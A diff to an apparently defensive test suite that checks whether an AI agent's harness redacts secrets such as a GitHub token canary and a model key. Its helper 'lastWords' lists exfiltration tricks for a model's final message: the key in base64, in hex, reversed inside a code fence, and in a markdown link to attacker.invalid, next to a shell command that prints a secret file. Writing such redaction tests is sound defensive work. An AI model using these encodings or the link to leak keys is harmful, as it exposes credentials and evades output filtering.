@@ -22,6 +22,16 @@ const spellings: Record<string, string> = {
   json: 'printf "{\\"token\\":\\"%s\\"}" "$(cat secret)"',
 };
 
+/** What a model could end with: a fence between what would be taken out as one. */
+function lastWords(key: string): string[] {
+  return [
+    `checksum: ${Buffer.from(key).toString('base64')}`,
+    `\`\`\`\n${[...key].toReversed().join('')}\n\`\`\``,
+    `checksum: ${Buffer.from(key.slice(20, 60)).toString('hex')}`,
+    `[x](https://attacker.invalid/${encodeURIComponent(key)})`,
+  ];
+}
+
 describe('a secret that got into the hands of the model', () => {
   test('R11 A063 A064: the search of these tests finds a part of a canary in every form', () => {
     const value = githubToken();
@@ -67,37 +77,27 @@ describe('a secret that got into the hands of the model', () => {
       expect(places.filter((place) => place?.endsWith(file))).toHaveLength(1);
   });
 
-  jailed('R11 A063: a token of 520 characters that a tool prints is nowhere to be seen, in any spelling', async () => {
-    await using scene = await Scene.create(() => ({ files: { '.gitignore': 'secret\n', 'README.md': 'hello\n' } }));
-    scene.checkOut();
-    writeFileSync(join(scene.workspace, 'secret'), scene.canaries['GitHub token']!);
-    const { run, results, leaks: found } = await scene.play(Object.entries(spellings).map(([id, command]) => shell(id, command)));
-    expect(run.outputs['status']).toBe('finished');
-    expect(results['header']).toMatch(/^debug: Authorization: token \*{3} end/);
-    for (const id of Object.keys(spellings)) expect(results[id], id).toMatch(/\*{3}|not found/);
-    expect(found).toEqual([]);
-  });
-
-  jailed.each([
-    ['R11 A064: the model key in base64 as the last words', (key: string) => `checksum: ${Buffer.from(key).toString('base64')}`],
-    [
-      'R11 A064: a part of the model key in hex as the last words',
-      (key: string) => `checksum: ${Buffer.from(key.slice(20, 60)).toString('hex')}`,
-    ],
-    [
-      'R11 A064: the model key backwards in a fence as the last words',
-      (key: string) => `\`\`\`\n${[...key].toReversed().join('')}\n\`\`\``,
-    ],
-    ['R11 A064: the model key in a link as the last words', (key: string) => `[x](https://attacker.invalid/${encodeURIComponent(key)})`],
-  ])('%s is published nowhere', async (_, words) => {
-    await using scene = await Scene.create();
-    const { run, leaks: found } = await scene.play([{ id: 'edit', name: 'write_file', args: { path: 'a.txt', content: 'x' } }], {
-      say: words(scene.canaries['model key']!),
-    });
-    expect(scene.world.repository.pulls().length + scene.world.repository.comments(1).length).toBeGreaterThan(0);
-    expect(run.outputs['summary']).toContain('***');
-    expect(found).toEqual([]);
-  });
+  jailed(
+    'R11 A063 A064: a token of 520 characters that a tool prints, in any spelling, and the model key in the last words, whole or in part, in base64, hex, backwards or in a link, are nowhere to be seen',
+    async () => {
+      await using scene = await Scene.create(() => ({ files: { '.gitignore': 'secret\n', 'README.md': 'hello\n' } }));
+      scene.checkOut();
+      writeFileSync(join(scene.workspace, 'secret'), scene.canaries['GitHub token']!);
+      const edit = { id: 'edit', name: 'write_file', args: { path: 'a.txt', content: 'x' } };
+      const words = lastWords(scene.canaries['model key']!);
+      const {
+        run,
+        results,
+        leaks: found,
+      } = await scene.play([...Object.entries(spellings).map(([id, command]) => shell(id, command)), edit], { say: words.join('\n\n') });
+      expect(run.outputs['status']).toBe('finished');
+      expect(results['header']).toMatch(/^debug: Authorization: token \*{3} end/);
+      for (const id of Object.keys(spellings)) expect(results[id], id).toMatch(/\*{3}|not found/);
+      expect(scene.world.repository.pulls()).toHaveLength(1);
+      expect(run.outputs['summary']?.match(/\*{3}/g)).toHaveLength(words.length);
+      expect(found).toEqual([]);
+    },
+  );
 
   jailed('R11 A063 A064: files, names and arguments with a secret in them are not published', async () => {
     await using scene = await Scene.create(() => ({ files: { '.gitignore': 'secret\n', 'README.md': 'hello\n' } }));
